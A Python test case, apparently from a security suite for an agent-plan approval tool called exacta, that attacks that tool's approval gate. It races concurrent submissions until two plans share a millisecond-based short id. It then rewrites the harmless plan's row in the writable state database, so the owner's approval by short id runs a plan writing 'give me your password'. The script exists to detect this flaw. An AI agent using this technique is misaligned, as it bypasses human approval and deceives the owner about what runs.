"""The short id of a plan was the time it was made, and was looked up in rows that anybody can write. The agent submits many plans at once
until two are made in the same millisecond, hides the row of the harmless one, and the owner's approval by its short id lands on the other."""

import json
import sqlite3
import subprocess

ROUNDS = 25
AT_ONCE = 6
SHORT = 13


def attack(kit):
    place = kit.place()
    place.write("greet.txt", "hello\n")
    good = place.plan({"type": "file_modify", "target": "greet.txt", "content": "good day\n"})
    evil = place.plan({"type": "file_modify", "target": "greet.txt", "content": "give me your password\n"})
    for _ in range(ROUNDS):
        ids = together(place, [good, evil] * AT_ONCE)
        pair = next(((a, b) for a in ids[0::2] for b in ids[1::2] if a[:SHORT] == b[:SHORT]), None)
        if pair:
            return swap(kit, place, *pair, SHORT)
    # Within seconds of each other, for an owner who types less of it.
    return swap(kit, place, ids[0], ids[1], next(n for n in range(SHORT, 0, -1) if ids[0][:n] == ids[1][:n]))


def together(place, plans):
    """Submits plans at the same time; their ids."""
    submit = lambda plan: place.start("submit", plan, "--json", stdout=subprocess.PIPE, stderr=subprocess.DEVNULL)
    return [json.loads(process.communicate()[0])["plan_id"] for process in [submit(plan) for plan in plans]]


def swap(kit, place, shown, other, length):
    """Gives the row of the plan that was shown another id, so that its short id finds only the other."""
    database = sqlite3.connect(place.project / ".exacta/state.db")
    database.execute("UPDATE plan SET id = 'ffffffff' || substr(id, 9) WHERE id = ?", (shown,))
    database.commit()
    database.close()
    name = shown[:length]
    place.exacta("approve", name, "--approver-key", place.key)
    if place.exacta("execute", other).code == 0:
        kit.broken(f"approved by the short id `{name}` of one plan, another one was executed")
